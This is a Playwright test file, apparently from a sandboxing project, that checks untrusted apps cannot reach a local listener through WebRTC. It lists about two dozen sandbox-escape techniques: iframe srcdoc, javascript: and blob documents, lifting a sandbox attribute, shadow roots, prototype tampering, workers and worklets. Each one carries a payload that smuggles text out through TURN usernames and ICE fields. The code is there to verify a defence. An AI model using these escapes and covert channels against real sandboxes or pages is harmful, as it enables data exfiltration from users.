/** WebRTC, which no policy of Chromium covers, in every realm that an app can make: nothing arrives, by UDP or TCP. */
import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';
import { expect, test } from '@playwright/test';
import { timeout } from '../../../evidence/lab/pace';
import { outlast } from '../parity/thread';
import { inClient, inServer } from './apps';
import { openAttackedPage } from './attacked-page';
import { type Site, serveSite } from './site';

interface Listener {
  port: number;
  /** What arrived, in words. */
  arrived: string[];
  close(): void;
}

/** Listens on one port of this machine for packets and for connections. */
async function listen(): Promise<Listener> {
  const arrived: string[] = [];
  const tcp = createServer((socket) => {
    arrived.push('a connection');
    socket.on('error', () => undefined).destroy();
  });
  await new Promise<void>((listening) => tcp.listen(0, listening));
  const address = tcp.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  const udp = createSocket('udp4', (packet) => arrived.push(`a packet of ${packet.length} bytes`));
  await new Promise<void>((bound) => udp.bind(port, bound));
  const close = () => {
    udp.close();
    tcp.close();
  };
  return { port, arrived, close };
}

/** Sends text of its choice as the name of a user, and asks STUN and TURN servers; `realm` is where it runs. */
const connect = (port: number) => `
  const connect = (realm) => {
    const Connection = realm.RTCPeerConnection ?? realm.webkitRTCPeerConnection;
    const iceServers = [{ urls: 'stun:127.0.0.1:${port}' }, { urls: ['turn:127.0.0.1:${port}', 'turn:127.0.0.1:${port}?transport=tcp'], username: 'TYPED-BY-THE-READER', credential: 'x' }];
    const one = new Connection({ iceServers });
    one.createDataChannel('a');
    one.createOffer().then(async (offer) => {
      await one.setLocalDescription(offer);
      const other = new Connection();
      await other.setRemoteDescription(offer);
      const answer = await other.createAnswer();
      await one.setRemoteDescription({ type: 'answer', sdp: answer.sdp.replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:TYPEDBYTHEREADER') });
      await one.addIceCandidate({ candidate: 'candidate:1 1 udp 2130706431 127.0.0.1 ${port} typ host', sdpMid: '0', sdpMLineIndex: 0 });
    });
  };`;
/** The same as the text of a document that runs in another realm. */
const page = (port: number) => `<script>${connect(port)} connect(self);</script>`;

/** \`html\` is that document, \`connect\` the function. */
const realms: Record<string, string> = {
  'its own': 'connect(self);',
  'its own, by what is left of the prototypes':
    'for (const name of Object.getOwnPropertyNames(self)) if (/RTC|Peer/.test(name)) connect({ RTCPeerConnection: self[name] });',
  'a frame without an address':
    "const f = document.createElement('iframe'); document.body.append(f); connect(f.contentWindow);",
  'a frame by index':
    "document.body.insertAdjacentHTML('beforeend', '<iframe name=\"n\"></iframe>'); try { connect(self[0]); } catch {} connect(frames.n);",
  'a frame by its text':
    "const f = document.createElement('iframe'); f.srcdoc = html; document.body.append(f);",
  'a frame in HTML':
    "document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); const f = document.querySelector('iframe'); f.setAttribute('srcdoc', html);",
  'a frame with a prefix':
    "const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe'); f.setAttribute('srcdoc', html); document.body.append(f);",
  'a frame that lifts its own bounds':
    "const f = document.createElement('iframe'); f.setAttributeNS('urn:x', 'sandbox', ''); f.srcdoc = html; document.body.append(f); setTimeout(() => { f.setAttribute('sandbox', 'allow-scripts'); f.srcdoc = html + ' '; }, 100); setTimeout(() => { f.removeAttribute('sandbox'); f.srcdoc = html; }, 200);",
  'a frame of a class of its own':
    "class F extends HTMLIFrameElement { connectedCallback() { if (this.tries = (this.tries ?? 0) + 1, this.tries < 9) { this.removeAttribute('sandbox'); this.srcdoc = html; } } } customElements.define('x-f', F, { extends: 'iframe' }); document.body.append(new F());",
  'a frame by a script address':
    "const f = document.createElement('iframe'); f.src = 'javascript:' + encodeURIComponent(JSON.stringify(html)); document.body.append(f);",
  'a frame of a frameset':
    "document.open(); document.write('<frameset><frame src=\"javascript:' + encodeURIComponent(JSON.stringify(html)) + '\"></frameset>'); document.close();",
  'a frame in a shadow root':
    "const h = document.createElement('div'); document.body.append(h); const f = document.createElement('iframe'); f.srcdoc = html; h.attachShadow({ mode: 'closed' }).append(f);",
  'a shadow root whose observer observes nothing':
    "const Native = MutationObserver; window.MutationObserver = class extends Native { constructor() { super(() => {}); } }; const h = document.createElement('div'); document.body.append(h); const f = document.createElement('iframe'); f.srcdoc = html; h.attachShadow({ mode: 'closed' }).append(f);",
  'a shadow root that cannot be observed, by what all objects have':
    "Object.prototype.characterData = false; Object.prototype.characterDataOldValue = true; const h = document.createElement('div'); document.body.append(h); try { h.attachShadow({ mode: 'open' }); } catch {} delete Object.prototype.characterData; delete Object.prototype.characterDataOldValue; const f = document.createElement('iframe'); f.srcdoc = html; h.shadowRoot.append(f);",
  'a copy of a shadow root':
    "const h = document.createElement('div'); const f = document.createElement('iframe'); f.srcdoc = html; h.attachShadow({ mode: 'open', clonable: true }).append(f); document.body.append(h.cloneNode(true));",
  'a declared shadow root':
    "const t = (mode) => '<div><template shadowrootmode=' + mode + '><iframe srcdoc=\"' + html.replaceAll('\"', '&quot;') + '\"></iframe></template></div>'; document.write(t('closed')); document.body.setHTMLUnsafe?.(t('open')); const d = Document.parseHTMLUnsafe?.(t('open')); if (d) document.body.append(d.body.firstChild);",
  'a declared shadow root in two parts':
    "const t = '<div><template SHADOWrootmode=open><iframe srcdoc=\"' + html.replaceAll('\"', '&quot;') + '\"></iframe></template></div>'; document.open(); for (const letter of t) document.write(letter); document.close();",
  'an object':
    "for (const tag of ['object', 'embed']) for (const field of ['data', 'src', 'srcdoc']) { const o = document.createElement(tag); o.type = 'text/html'; o.setAttribute(field, field === 'srcdoc' ? html : 'data:text/html,' + encodeURIComponent(html)); document.body.append(o); try { connect(o.contentWindow); } catch {} }",
  'text that an editor puts in':
    "document.body.contentEditable = 'true'; getSelection().selectAllChildren(document.body); document.execCommand('insertHTML', false, '<iframe srcdoc=\"' + html.replaceAll('\"', '&quot;') + '\"></iframe>');",
  'a document in place of its own':
    "Function('a', 'location.href = a')('javascript:' + encodeURIComponent(JSON.stringify(html)));",
  'a document of bytes in place of its own':
    "Function('a', 'location.href = a')(URL.createObjectURL(new Blob([html], { type: 'text/html' })));",
  'a worker': "new Worker(URL.createObjectURL(new Blob([source + ' connect(self);'])));",
  'a worklet':
    "CSS.paintWorklet?.addModule(URL.createObjectURL(new Blob([source + ' connect(self);']))).catch(() => 0); new OfflineAudioContext(1, 1, 8000).audioWorklet?.addModule(URL.createObjectURL(new Blob([source + ' connect(self);']))).catch(() => 0);",
};

let site: Site;
let listener: Listener;
test.beforeAll(async () => {
  site = await serveSite();
  listener = await listen();
});
test.afterAll(async () => {
  listener.close();
  await site.close();
});

test('WebRTC of the page itself arrives at the listener, so that one of an app would', async ({
  page: browser,
}) => {
  await browser.goto(site.url);
  await browser.evaluate((code) => new Function(`${code} connect(self);`)(), connect(listener.port));
  await expect.poll(() => listener.arrived.join()).toContain('a packet');
  listener.arrived.splice(0);
});

test('no app makes a connection, in none of the realms it can get hold of', async ({ page: browser }) => {
  test.setTimeout(timeout(150_000));
  const { attacked, survives } = await openAttackedPage(browser, site);
  const { port, arrived } = listener;
  arrived.splice(0); // what the page of the test before sent until it was closed
  for (const [realm, code] of Object.entries(realms)) {
    const texts = `const source = ${JSON.stringify(connect(port))}; const html = ${JSON.stringify(page(port)).replaceAll('</', '<\\/')};`;
    await attacked.forget();
    await attacked.run(
      inClient(`setTimeout(() => console.log('tried'), 200); ${texts} ${connect(port)} ${code}`),
      {
        fresh: true,
      },
    );
    const told = async () => [...(await attacked.lines()), ...(await attacked.problems())].length;
    await expect.poll(told, { message: realm, timeout: timeout(15_000) }).toBeGreaterThan(0);
    await outlast(browser, site.elsewhere);
    expect.soft(arrived.splice(0), realm).toEqual([]);
  }
  await survives();
  expect(arrived).toEqual([]);
});

test('no connection is made in the server half', async ({ page: browser }) => {
  const { attacked, survives } = await openAttackedPage(browser, site);
  const { port, arrived } = listener;
  await attacked.run(
    inServer(`${connect(port)} try { connect(self); } catch (error) { console.log(String(error)); }`),
  );
  await expect.poll(async () => (await attacked.lines()).join()).toContain('TypeError');
  await survives();
  expect(arrived).toEqual([]);
});
